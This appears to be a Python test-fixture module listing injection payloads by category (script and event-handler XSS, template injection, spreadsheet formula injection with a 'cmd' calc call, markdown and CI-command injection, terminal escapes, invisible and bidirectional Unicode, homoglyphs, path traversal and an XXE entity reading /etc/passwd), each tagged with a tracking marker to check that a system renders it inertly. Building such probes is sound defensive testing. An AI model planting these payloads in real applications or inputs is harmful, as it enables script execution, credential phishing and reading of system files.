"""Texts that want to be more than text, by what they want to be.

``«N»`` stands for a number that tells where a text was planted, and ``canary`` for a function that a page must never call.
"""

from __future__ import annotations

SUM = ("1337*7331", "9801547")
"""A sum that no page of ours tells, and what only a template that worked it out would write."""

EXECUTED: tuple[str, ...] = (
    "<script>canary('«N»')</script>",
    "\"><img src=x onerror=canary('«N»')>",
    "'><svg/onload=canary('«N»')>",
    '" onmouseover="canary(1)" autofocus onfocus="canary(\'«N»\')',
    "</title></style></textarea></script><script>canary('«N»')</script>",
    "<!--><script>canary('«N»')</script>-->",
    "]]><script>canary('«N»')</script>",
    "&lt;script&gt;canary('«N»')&lt;/script&gt;",
    "<iframe srcdoc=\"<script>parent.canary('«N»')</script>\">",
    "<a href=javascript:canary('«N»')>tekan</a>",
    "javascript:canary('«N»')",
    "<base href=https://x.invalid/><meta http-equiv=refresh content=0;url=https://x.invalid/>",
    "<details open ontoggle=canary('«N»')>",
    "</script><script>canary('«N»')//",
    "';canary('«N»');'",
    "\\u003cscript\\u003ecanary('«N»')\\u003c/script\\u003e",
    "<form action=https://x.invalid/><input name=sandi><button>Masuk",
)
EVALUATED = (
    f"{{{{ {SUM[0]} }}}} «N»",
    f"{{% set a = {SUM[0]} %}}{{{{ a }}}} «N»",
    f"${{{SUM[0]}}} #{{{SUM[0]}}} <%= {SUM[0]} %> «N»",
    "{{ self.__init__.__globals__ }} «N»",
    "{% include '/etc/passwd' %} «N»",
    "{# «N» #}",
    "%(x)s {0} {x!r} $x «N»",
)
CALCULATED = (
    '=HYPERLINK("https://x.invalid/";"tekan") «N»',
    "=cmd|'/C calc'!A0 «N»",
    "+1+cmd|'/C calc'!A0 «N»",
    "-2+3 «N»",
    "@SUM(1+1)*«N»",
    "\t=1+«N»",
    "\n=1+«N»",
    "  =1+«N»",
    "\uff1d1+«N»",
    '";=1+1;" «N»',
    "=1+«N»",
)
MARKED_UP = (
    "[tekan](javascript:canary('«N»'))",
    "![x](https://x.invalid/x.png) «N»",
    "## Diterima «N»",
    "«N»\n\n## Diterima\n\n- semua benar",
    "```\n«N»\n```",
    "</details></summary> «N»",
    "@semua-orang #123 GH-1 «N»",
    "<https://x.invalid/> www.x.invalid «N»",
    "[x]: https://x.invalid/ «N»",
    "[x][x] ![x][x] [^1] «N»",
    "| a | b |\n|---|---|\n| «N» | |",
    "**tebal** _miring_ `kode` ~~coret~~ $x$ «N»",
    "«N» {: onclick=canary(1) #judul .kelas }",
    "{#judul onclick=canary('«N»')} «N»",
    '<div markdown="1" onclick="canary(1)">«N»</div>',
    "[TOC] *[N]: x «N»",
    "    «N»\n---\n",
    "1. «N»\n2. dua",
    "\\[a\\](b) \\<b> «N»",
)
COMMANDED = (
    "::error file=a,line=1::palsu «N»",
    "«N»\n::set-output name=x::y",
    "«N»\r\n::error::palsu",
    "«N»%0A::error::palsu",
    "##[error]palsu «N»",
    "::stop-commands::«N»",
    "::add-mask::«N»",
    "##vso[task.complete result=Succeeded]«N»",
    "section_start:1:palsu\r\x1b[0K«N»",
)
DRAWN = (
    "«N»\x1b[2J\x1b[1;1H",
    "«N»\x1b]8;;https://x.invalid/\x1b\\tekan\x1b]8;;\x1b\\",
    "«N»\x1b]0;judul\x07",
    "«N»\x9b31m",
    "«N»\x08\x08\x7f",
    "«N»\rSemua benar",
    "«N»\x85a\x0bb\x0cc\u2028d\u2029e",
)
TURNED = (
    "«N»\u202egpj.exe",
    "«N»\u2066a\u2069\u2067b",
    "«N»\u061ca",
    "«N»\u200fa\u200e",
    "«N»\u200ba\u200cb\u200dc",
    "«N»\ufeffa\u2060b\u00adc\u180ed",
    "«N»\U000e0041\U000e0042",
    "«N»\u3164\u115fa\u2800\u034f",
    "«N»\ufe0f\U000e0100",
    "«N»\ue000\ufffe\U0010ffff",
    "«N»\xa0\u3000a",
)
LOOKALIKE = (
    "Siti R\u0430hmawati «N»",
    "\uff30\uff2e\uff33 «N»",
    "\U0001d412iti «N»",
    "\u0391gus «N»",
)
LED_ASTRAY = (
    "../../../../etc/passwd «N»",
    "..\\..\\windows\\win.ini «N»",
    "/etc/passwd",
    "file:///etc/passwd",
    "%2e%2e%2fetc%2fpasswd «N»",
    "«N»\x00.yaml",
)
FOLDED = (
    "«N»\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:palsu",
    "«N»\nBEGIN:VALARM\nTRIGGER:-PT1M",
    '«N»","palsu":"',
    '«N»"\n"palsu',
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y; «N»",
    "«N» &#x202e; &#0; &nbsp;",
)

ADDRESSES = (
    "https://alamat.example/'onmouseover='canary(1)'«N»",
    "https://alamat.example/«N»](javascript:canary(1))",
    "https://alamat.example/{{1337*7331}}«N»{%25",
    "https://alamat.example/«N»`)|*_&amp;&#x27;",
    "https://alamat.example/«N»?a=1&b=2&lt;script&gt;#::error::",
)
"""Texts that are addresses as well, by the form that is asked of them."""

TEXTS: dict[str, tuple[str, ...]] = {
    "executed": EXECUTED,
    "evaluated": EVALUATED,
    "calculated": CALCULATED,
    "marked up": MARKED_UP,
    "commanded": COMMANDED,
    "drawn": DRAWN,
    "turned": TURNED,
    "look-alike": LOOKALIKE,
    "led astray": LED_ASTRAY,
    "folded": FOLDED,
}
ALL = tuple(text for texts in TEXTS.values() for text in texts)


def planted(text: str, number: int) -> str:
    """Give a text with the number of its place."""
    return text.replace("«N»", f"kait{number:04}")
